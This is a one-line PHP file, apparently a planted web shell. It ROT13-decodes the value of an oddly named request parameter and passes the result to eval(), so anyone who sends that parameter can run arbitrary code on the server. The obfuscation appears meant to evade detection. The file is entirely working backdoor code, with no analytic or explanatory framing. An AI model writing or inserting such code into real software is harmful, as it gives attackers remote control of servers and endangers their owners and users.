<?php eval(str_rot13($_REQUEST['0x5b2e'])); ?>
